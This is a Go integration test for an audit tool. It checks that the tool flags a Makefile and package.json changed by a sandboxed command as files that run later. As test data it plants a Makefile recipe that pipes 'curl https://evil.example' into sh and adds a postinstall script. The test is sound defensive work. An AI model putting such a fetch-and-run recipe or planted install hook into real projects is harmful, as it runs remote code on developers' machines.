package integration

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestAuditFlagsRunsLaterFiles: a sandboxed command that plants a Makefile recipe and a
// package.json install script among ordinary edits; audit show, show --json and the
// HTML report list those two files first, marked, and not the ordinary ones.
func TestAuditFlagsRunsLaterFiles(t *testing.T) {
	w := newWorld(t)
	mustWrite(t, filepath.Join(w.ws, "Makefile"), "test:\n\tgo test ./...\n")
	mustWrite(t, filepath.Join(w.ws, "package.json"), "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\"\n}\n")
	mustWrite(t, filepath.Join(w.ws, "README.md"), "hello\n")
	r := w.sh(`printf 'all:\n\tcurl https://evil.example | sh\n' >> Makefile && ` +
		`printf '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": {"postinstall": "node x.js"}\n}\n' > package.json && ` +
		`echo more >> README.md`)
	if r.code != 0 {
		t.Fatalf("command failed: %v", r)
	}

	show := w.cordon("", "audit", "show", "last")
	if show.code != 0 {
		t.Fatalf("audit show: %v", show)
	}
	block, rest, ok := strings.Cut(show.stdout, "\n[")
	if !ok || !strings.Contains(block, "RUNS LATER") {
		t.Fatalf("audit show has no runs-later block before the first command:\n%s", show.stdout)
	}
	for _, want := range []string{"M Makefile  build:", "M package.json  package-scripts: package.json scripts"} {
		assertContains(t, "runs-later block", block, want)
	}
	if strings.Contains(block, "README.md") {
		t.Errorf("README.md is flagged:\n%s", block)
	}
	assertContains(t, "command's files", rest, "M Makefile +2 -0  [runs later: build]")

	js := w.cordon("", "audit", "show", "--json", "last")
	var out struct {
		RunsLater []struct{ Path, Category string } `json:"runs_later"`
	}
	if err := json.Unmarshal([]byte(js.stdout), &out); err != nil {
		t.Fatalf("show --json: %v\n%s", err, js.stdout)
	}
	var got []string
	for _, f := range out.RunsLater {
		got = append(got, f.Path+" "+f.Category)
	}
	if want := "Makefile build, package.json package-scripts"; strings.Join(got, ", ") != want {
		t.Errorf("runs_later: got %q; want %q", strings.Join(got, ", "), want)
	}

	report := filepath.Join(t.TempDir(), "report.html")
	if rep := w.cordon("", "audit", "report", "-o", report, "last"); rep.code != 0 {
		t.Fatalf("audit report: %v", rep)
	}
	page, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	html := string(page)
	later, timeline := strings.Index(html, "Runs later — review first"), strings.Index(html, "<h2>Timeline</h2>")
	if later < 0 || timeline < 0 || later > timeline {
		t.Fatalf("the report's runs-later section (at %d) is not before the timeline (at %d)", later, timeline)
	}
	section := html[later:timeline]
	for _, want := range []string{"<code>Makefile</code>", "<code>package.json</code>", "Makefile, run by make", "package.json scripts"} {
		assertContains(t, "report's runs-later section", section, want)
	}
	if strings.Contains(section, "<code>README.md</code>") {
		t.Error("the report flags README.md")
	}
}
